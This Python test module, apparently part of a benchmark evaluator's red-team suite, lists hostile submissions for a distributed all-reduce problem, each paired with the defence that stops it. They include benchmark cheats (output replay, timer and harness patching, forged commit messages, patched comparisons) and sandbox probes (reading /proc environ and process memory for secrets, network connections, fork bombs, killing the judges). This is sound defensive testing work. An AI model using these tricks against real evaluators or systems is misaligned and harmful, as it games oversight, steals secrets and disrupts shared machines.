"""Hostile solution files: one attack each, as a bundle's `<slug>.py`.

Every problem here is the real all-reduce under another slug, with one tiny case, so one
bundle can carry many attacks. Each entry: the attack, the defence that must stop it.
`CANARY` is set in the worker's environment by the tests; no attack may ever print it.
"""

from __future__ import annotations

import dataclasses
import os
from dataclasses import dataclass

from problems.collective import all_reduce
from problems.spec import Case, Problem

CANARY = "pkb-canary-5f1c0ffee"
# The tests leave a root-only (0600) fake seed-secret file holding CANARY under this prefix.
SECRET_PREFIX = "/tmp/pkb-redteam-secret-"
TINY = (Case("dev-tiny", "float32", {"n": 256}),)

HONEST = """
import torch.distributed as dist

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out
"""


@dataclass(frozen=True)
class Attack:
    name: str
    attack: str  # what it tries
    defence: str  # what stops it (docs/security.md)
    source: str
    # Stopped only by running bundle code as another user than the worker's: left out of
    # the bundle where the worker is not root (it would succeed, by design, see the docs).
    needs_candidate_user: bool = False


ATTACKS = [
    Attack(
        "replay-pointer",
        "caches its output by the input's data_ptr() and replays it for a repeated pointer",
        "fresh inputs for every call; several timed outputs checked -> wrong_answer",
        """
import torch
import torch.distributed as dist
CACHE = {}

def solution(x):
    key = x.data_ptr()
    # Replay only when every rank has seen its pointer: no rank is left in a collective.
    hits = torch.tensor([float(key in CACHE)])
    dist.all_reduce(hits, op=dist.ReduceOp.MIN)
    if not hits.item():
        out = x.clone()
        dist.all_reduce(out)
        CACHE[key] = out
    else:
        print("pkb-redteam: replayed a cached output", flush=True)
    return CACHE[key]
""",
    ),
    Attack(
        "replay-count",
        "computes the first calls honestly, then replays its last output",
        "fresh inputs for every call; several timed outputs checked -> wrong_answer",
        """
import torch.distributed as dist
STATE = {"calls": 0, "last": None}

def solution(x):
    STATE["calls"] += 1
    if STATE["calls"] <= 3 or STATE["last"] is None:
        out = x.clone()
        dist.all_reduce(out)
        STATE["last"] = out
    return STATE["last"]
""",
    ),
    Attack(
        "phase-by-tempo",
        "detects the timed loop by calls coming back to back and replays there",
        "warm-up and timed calls are made alike; outputs of timed calls checked -> wrong_answer",
        """
import time
import torch.distributed as dist
STATE = {"at": 0.0, "last": None}

def solution(x):
    now = time.monotonic()
    quick = now - STATE["at"] < 0.5
    STATE["at"] = now
    if quick and STATE["last"] is not None and STATE["last"].shape == x.shape:
        return STATE["last"]
    out = x.clone()
    dist.all_reduce(out)
    STATE["last"] = out
    return out
""",
    ),
    Attack(
        "timer-perf-counter",
        "replaces time.perf_counter by a clock that barely moves",
        "the harness bound its clock at import; tampering detected -> flag tampered",
        """
import time
import torch.distributed as dist
_real = time.perf_counter
time.perf_counter = lambda: _real() * 1e-6

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "timer-cuda-event",
        "replaces torch.cuda.Event.elapsed_time (and synchronize) to report 1 ns",
        "the harness bound the event methods at import; tampering detected -> flag tampered",
        """
import torch
import torch.distributed as dist
torch.cuda.Event.elapsed_time = lambda self, end: 1e-6
torch.cuda.synchronize = lambda *a, **k: None

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "harness-patch",
        "wraps the harness's own timing method to divide every reported time by 1000",
        "the harness's methods are watched -> flag tampered",
        """
import sys
import torch.distributed as dist
ranks = sys.modules["evaluator.ranks"]
_orig = ranks._Candidate._time

def _fast(self, payload):
    reply = _orig(self, payload)
    reply["times_us"] = [t / 1000 for t in reply["times_us"]]
    return reply

ranks._Candidate._time = _fast

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "frame-reader",
        "reads the harness's frames for the list of checked calls and skips the all-reduce "
        "on every call it finds unchecked (all of them, when it finds no list)",
        "the parent says whether a call is checked only after the call has returned "
        "-> wrong_answer",
        """
import sys
import torch.distributed as dist

def _checked_calls():
    frame = sys._getframe(1)
    while frame is not None:
        found = frame.f_locals.get("keep") or frame.f_locals.get("wanted")
        payload = frame.f_locals.get("payload")
        if not found and isinstance(payload, dict):
            found = payload.get("keep")
        if found is not None and frame.f_locals.get("i") is not None:
            return set(found), frame.f_locals["i"]
        frame = frame.f_back
    return None, None

def solution(x):
    checked, call = _checked_calls()
    timed = any(f.function == "run_batch" for f in __import__("inspect").stack())
    if timed and (checked is None or call not in checked):
        print("pkb-redteam: skipped an unchecked call", flush=True)
        return x.clone()  # this rank's own share: no communication at all
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "lazy-output",
        "returns, from timed calls, a Tensor subclass that does the all-reduce only when the "
        "harness reads it (to copy or ship it) after the stop timestamp",
        "outputs must be plain Tensors (exact type) -> runtime_error",
        """
import inspect
import torch
import torch.distributed as dist

class Lazy(torch.Tensor):
    @staticmethod
    def __new__(cls, x):
        lazy = torch.Tensor._make_subclass(cls, torch.empty_like(x))
        lazy.source = x
        return lazy

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        with torch._C.DisableTorchFunctionSubclass():
            lazy = args[0] if args and isinstance(args[0], Lazy) else None
            if lazy is not None and hasattr(lazy, "source"):
                out = lazy.source.clone()
                dist.all_reduce(out)  # the whole work, outside the timed interval
                return func(out, *args[1:], **(kwargs or {}))
            return func(*args, **(kwargs or {}))

def solution(x):
    if any(f.function == "run_batch" for f in inspect.stack()):
        return Lazy(x)
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "forged-question",
        "commits, on the harness's channel, to made-up digests at the first timed call to "
        "learn early which calls are checked, and skips the all-reduce on the others",
        "one commitment per round, from the harness after the batch -> runtime_error, "
        "flag tampered",
        """
import json
import sys
import torch.distributed as dist
STATE = {"checked": None}

def _serve():
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "_serve":
            return frame.f_locals
        frame = frame.f_back
    return None

def solution(x):
    out = x.clone()
    caller = sys._getframe(1).f_code.co_name
    served = _serve()
    if caller == "run_batch" and served is not None and served["op"] == "time":
        payload = served["payload"]
        if payload.get("forged") is None:
            payload["forged"] = True
            calls = len(payload["seeds"]) - payload["warmup"]
            question = {"step": served["step"], "ask": "commit", "digests": [[0, 0]] * calls}
            served["conn"].send_bytes(json.dumps(question).encode())
            STATE["checked"] = set(served["conn"].recv()[2])
        if STATE["checked"] is not None and not STATE["checked"]:
            return out
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "forged-reply",
        "writes the round's reply itself on the harness's channel, with 1 us per call, "
        "before the round has run",
        "a round's reply is accepted only after its commitment -> runtime_error, flag tampered",
        """
import json
import sys
import torch.distributed as dist

def solution(x):
    frame = sys._getframe(1)
    while frame is not None and frame.f_code.co_name != "_serve":
        frame = frame.f_back
    payload = frame.f_locals.get("payload") if frame is not None else None
    if frame is not None and frame.f_locals.get("op") == "time" and "forged" not in payload:
        payload["forged"] = True
        calls = len(payload["seeds"])
        reply = {"step": frame.f_locals["step"], "ok": True, "times_us": [1.0] * calls}
        frame.f_locals["conn"].send_bytes(json.dumps(reply).encode())
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "own-loop",
        "replaces the timed round with its own protocol: skips the all-reduce on every "
        "call, commits to the digests of what it skipped to, reports 1 us per call, then "
        "computes the right outputs for just the calls the parent names as checked",
        "commit, then reveal: a checked output must match its call's digest -> "
        "wrong_answer, flag tampered",
        """
import json
import sys
import torch.distributed as dist
from evaluator.tools.timing import digest, digest_values
from problems.spec import Case

def _serve():
    frame = sys._getframe(1)
    while frame is not None and frame.f_code.co_name != "_serve":
        frame = frame.f_back
    return frame.f_locals if frame is not None else None

def _own_round(served):
    worker, conn, step, payload = (served[k] for k in ("worker", "conn", "step", "payload"))
    case, warmup = Case.from_json(payload["case"]), payload["warmup"]
    timed = payload["seeds"][warmup:]
    skipped = [worker.inputs(case, seed)["x"].clone() for seed in timed]  # no all-reduce
    digests = digest_values([digest(s) for s in skipped])
    question = {"step": step, "ask": "commit", "digests": digests}
    conn.send_bytes(json.dumps(question).encode())
    for call in conn.recv()[2]:
        out = worker.inputs(case, timed[call])["x"].clone()
        dist.all_reduce(out)  # the work, for the checked calls only, after the commitment
        worker._ship(out)
    reply = {"step": step, "ok": True, "times_us": [1.0] * len(payload["seeds"]), "tampered": []}
    conn.send_bytes(json.dumps(reply).encode())
    print("pkb-redteam: drove a timed round itself", flush=True)

def solution(x):
    served = _serve()
    if served is not None and served["op"] == "time" and "own" not in served["payload"]:
        served["payload"]["own"] = True
        _own_round(served)
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "ctypes-clock",
        "through ctypes, rebinds the clock the harness captured at import (and its event "
        "reader) to ones that run 1000 times slower, and its list of watched attributes to "
        "an empty one, so nothing reports the change; each call then sleeps 500 ms "
        "(standing for slow work) that the reported times no longer show",
        "the parent's own clock around each round -> flag clock_mismatch",
        """
import ctypes
import time
import torch.distributed as dist
from evaluator.tools import timing

def _rebind(module, name, value):
    ctypes.pythonapi.PyDict_SetItem.argtypes = [ctypes.py_object] * 3
    ctypes.pythonapi.PyDict_SetItem(vars(module), name, value)

_clock, _elapsed = timing._perf_counter, timing._event_elapsed
_rebind(timing, "_WATCHED", [])
_rebind(timing, "_perf_counter", lambda: _clock() / 1000)
_rebind(timing, "_event_elapsed", lambda start, end: _elapsed(start, end) / 1000)

def solution(x):
    out = x.clone()
    dist.all_reduce(out)
    if any(f.function == "run_batch" for f in __import__("inspect").stack()):
        time.sleep(0.5)
    return out
""",
    ),
    Attack(
        "fill-after-loop",
        "skips the all-reduce in timed calls; swaps the code of the harness's reveal step "
        "(the function object stays the same, so no watch sees it) to compute the right "
        "outputs for the checked calls after the loop, before they are shipped",
        "commit, then reveal: the digests were taken before the reveal -> wrong_answer, "
        "flag tampered",
        """
import inspect
import sys
import torch.distributed as dist

ranks = sys.modules["evaluator.ranks"]

def reveal(self):
    worker = self.worker
    commitment = {"step": worker.step, "ask": "commit", "digests": self.commitments()}
    worker.conn.send_bytes(_json(commitment))
    filled = []
    for call in worker.conn.recv()[2]:
        out = self.copies[call].clone()
        dist.all_reduce(out)  # the work, after the loop, for the checked calls only
        filled.append(out)
    return filled

ranks._Commitment.reveal.__code__ = reveal.__code__

def solution(x):
    out = x.clone()
    if any(f.function == "run_batch" for f in inspect.stack()):
        return out
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "sleeper",
        "rebinds the harness's input maker (and the module global of watched attributes "
        "captured at import) so that making each call's inputs also computes its output, "
        "with 500 ms of sleep standing for slow work; the calls then return at once: "
        "honest outputs, honest digests, honestly measured short calls",
        "the parent's own clock around each round -> flag clock_mismatch",
        """
import sys
import time
import torch.distributed as dist
from evaluator.tools import timing

ranks = sys.modules["evaluator.ranks"]
READY = {}
_inputs = ranks._Worker.inputs

def inputs(self, case, seed):
    made = _inputs(self, case, seed)
    out = made["x"].clone()
    dist.all_reduce(out)
    time.sleep(0.5)
    READY[made["x"].data_ptr()] = (made["x"], out)
    return made

timing._WATCHED = []
ranks._Worker.inputs = inputs

def solution(x):
    ready = READY.pop(x.data_ptr(), None)
    if ready is not None and ready[0] is x:
        return ready[1]
    out = x.clone()
    dist.all_reduce(out)
    return out
""",
    ),
    Attack(
        "patch-comparison",
        "makes torch.allclose/equal/isclose always agree, then returns garbage",
        "outputs are compared in the judge process, which never runs bundle code -> wrong_answer",
        """
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)

def solution(x):
    return torch.zeros_like(x)
""",
    ),
    Attack(
        "environment",
        "looks for the worker's secrets in os.environ and /proc/self/environ",
        "scrubbed environment and a launcher that replaces the initial environment block",
        f"""
import os

def solution(x):
    names = ("PKB_SEED_SECRET", "PKB_SEED_SECRET_FILE", "REDIS_URL", "DATABASE_URL")
    found = [k for k, v in os.environ.items() if {CANARY!r} in v or k in names]
    with open("/proc/self/environ", "rb") as f:
        if {CANARY!r}.encode() in f.read():
            found.append("/proc/self/environ")
    raise RuntimeError(f"environment probe done; found {{found}}")
""",
    ),
    Attack(
        "proc-environ",
        "reads /proc/<pid>/environ of the worker, the judges and every other process",
        "the worker and judges are not dumpable; bundle code holds no capability outside "
        "its user namespace",
        f"""
import os

def solution(x):
    found, denied = [], 0
    for pid in [os.getppid()] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{{pid}}/environ", "rb") as f:
                if {CANARY!r}.encode() in f.read():
                    found.append(pid)
        except OSError:
            denied += 1
    raise RuntimeError(f"environ scan done; found {{found}}, denied {{denied}}")
""",
    ),
    Attack(
        "judge-memory",
        "reads the memory of its sibling processes (the judges hold the reference outputs)",
        "judges are not dumpable: /proc/<pid>/mem and maps are refused",
        """
import os

def _siblings():
    me, parent = os.getpid(), os.getppid()
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != me:
            try:
                stat = open(f"/proc/{p}/stat").read()
            except OSError:
                continue
            if int(stat[stat.rfind(")") + 2:].split()[1]) == parent:
                yield int(p)

def solution(x):
    read = []
    for pid in _siblings():
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
                line = maps.readline()
                mem.seek(int(line.split("-")[0], 16))
                mem.read(16)
                read.append(pid)
        except OSError:
            pass
    raise RuntimeError(f"memory probe done; read {len(read)} processes: {read}")
""",
    ),
    Attack(
        "socket",
        "connects to the broker (Redis at 127.0.0.1:6379) and to the internet",
        "a network namespace with only its own loopback",
        """
import socket

def solution(x):
    outcomes = []
    for host, port in (("127.0.0.1", 6379), ("1.1.1.1", 53)):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"PING\\r\\n")
            outcomes.append(f"{host}: CONNECTED {s.recv(16)!r}")
        except OSError as exc:
            outcomes.append(f"{host}: {exc}")
    raise RuntimeError(f"network probe done: {outcomes}")
""",
    ),
    Attack(
        "fork-bomb",
        "forks (up to 3000, to spare the shared test machine) with children that sleep",
        "RLIMIT_NPROC (binds: bundle code is never root) -> runtime_error; the process "
        "group and the orphan sweep -> nothing left",
        """
import os
import time

def solution(x):
    children = 0
    for _ in range(3000):
        try:
            pid = os.fork()
        except OSError as exc:
            raise RuntimeError(f"fork refused after {children} children: {exc}")
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    raise RuntimeError(f"UNLIMITED: {children} children")
""",
    ),
    Attack(
        "memory",
        "allocates 64 GiB",
        "RLIMIT_AS on CPU hosts (GPU hosts: the GPU's own memory, see docs) -> runtime_error",
        """
def solution(x):
    hog = bytearray(64 * 1024**3)
    return hog
""",
    ),
    Attack(
        "log-flood",
        "writes gigabytes to stdout",
        "RLIMIT_FSIZE on its log (EFBIG: Python ignores SIGXFSZ), result logs capped",
        """
import sys

def solution(x):
    line = "flood " * 1000 + "\\n"
    for _ in range(1_000_000):
        sys.stdout.write(line)
    return x
""",
    ),
    Attack(
        "never-returns",
        "spins forever in the solution",
        "the per-problem wall-clock deadline; the ranks are killed -> timeout",
        """
def solution(x):
    while True:
        pass
""",
    ),
    Attack(
        "exits",
        "calls os._exit(0) in the middle of a collective",
        "a rank that ends is a result -> runtime_error",
        """
import os

def solution(x):
    os._exit(0)
""",
    ),
    Attack(
        "detached-process",
        "double-forks a setsid daemon that sleeps forever, then answers correctly",
        "the evaluator is a child subreaper: the orphan comes back to it and is killed",
        """
import os
import time
import torch.distributed as dist

def solution(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open(os.path.join(os.environ["TMPDIR"], "daemon-pids"), "a") as f:
                f.write(f"{os.getpid()}\\n")
            time.sleep(3600)
        os._exit(0)
    out = x.clone()
    dist.all_reduce(out)
    raise RuntimeError("left a daemon behind")
""",
    ),
    Attack(
        "shm-litter",
        "leaves a 1 MiB file in /dev/shm",
        "entries created in /dev/shm during an evaluation are removed after it",
        """
import os

def solution(x):
    with open(f"/dev/shm/pkb-redteam-{os.getpid()}", "wb") as f:
        f.write(b"\\0" * 1024 * 1024)
    raise RuntimeError("left a file in /dev/shm")
""",
    ),
]


# Stopped by the candidate user. Before the log flood: a log at its size cap makes every
# later traceback on that rank an exit without a message.
_IDENTITY_ATTACKS = [
    Attack(
        "write-repository",
        "appends to the repository's problems/collective/all_reduce.py (a reference judges "
        "import later) and creates a file next to it",
        "bundle code runs as the unprivileged candidate user -> PermissionError",
        """
import os
import problems

def solution(x):
    folder = os.path.join(os.path.dirname(problems.__file__), "collective")
    outcomes = []
    for name, mode in (("all_reduce.py", "a"), ("pkb_redteam_planted.py", "x")):
        try:
            with open(os.path.join(folder, name), mode) as f:
                f.write("\\n# pkb red team was here\\n")
            outcomes.append(f"{name}: WRITTEN")
        except OSError as exc:
            outcomes.append(f"{name}: {type(exc).__name__}")
    raise RuntimeError(f"repository probe done: {outcomes}")
""",
        needs_candidate_user=True,
    ),
    Attack(
        "read-secret-file",
        "reads the worker's root-only (0600) seed-secret file",
        "bundle code runs as the unprivileged candidate user -> PermissionError",
        f"""
import glob

def solution(x):
    outcomes = []
    for path in glob.glob({SECRET_PREFIX!r} + "*"):
        try:
            with open(path) as f:
                outcomes.append("READ " + f.read().replace({CANARY!r}, "CANARY"))
        except OSError as exc:
            outcomes.append(type(exc).__name__)
    raise RuntimeError(f"secret probe done: {{outcomes}}")
""",
        needs_candidate_user=True,
    ),
    Attack(
        "kill-worker",
        "SIGKILLs its parent (the worker), pid 1, the judges and the jail's holder",
        "bundle code runs as the unprivileged candidate user -> PermissionError",
        """
import os
import signal

def _trusted(pid):
    # Root is unmapped in the jail, so every uid but ours reads as nobody's: tell the
    # worker's other children (judges, the jail's holder) by their refusing /proc access.
    try:
        open(f"/proc/{pid}/environ", "rb").close()
        return False
    except PermissionError:
        return True
    except OSError:
        return False

def _judges():
    me, parent = os.getpid(), os.getppid()
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != me:
            try:
                stat = open(f"/proc/{p}/stat").read()
            except OSError:
                continue
            if int(stat[stat.rfind(")") + 2:].split()[1]) == parent and _trusted(p):
                yield int(p)

def solution(x):
    killed, refused = [], []
    for pid in [os.getppid(), 1, *_judges()]:
        try:
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
        except PermissionError:
            refused.append(pid)
        except ProcessLookupError:
            pass
    raise RuntimeError(f"kill probe done; killed {killed}, refused {len(refused)}")
""",
        needs_candidate_user=True,
    ),
]
_at = next(i for i, a in enumerate(ATTACKS) if a.name == "socket") + 1
ATTACKS[_at:_at] = _IDENTITY_ATTACKS


def problem(slug: str) -> Problem:
    return dataclasses.replace(all_reduce.PROBLEM, slug=slug, dev_cases=TINY)


def bundle_files() -> tuple[dict[str, str], list[str]]:
    """Each attack followed by an honest solution of another slug: the same worker must
    still judge a correct solution right after every attack."""
    files: dict[str, str] = {}
    slugs: list[str] = []
    for attack in ATTACKS:
        if attack.needs_candidate_user and os.geteuid() != 0:
            continue
        files[f"rt-{attack.name}.py"] = attack.source
        files[f"rt-after-{attack.name}.py"] = HONEST
        slugs += [f"rt-{attack.name}", f"rt-after-{attack.name}"]
    return files, slugs


CATALOG: dict[str, Problem] = {slug: problem(slug) for slug in bundle_files()[1]}
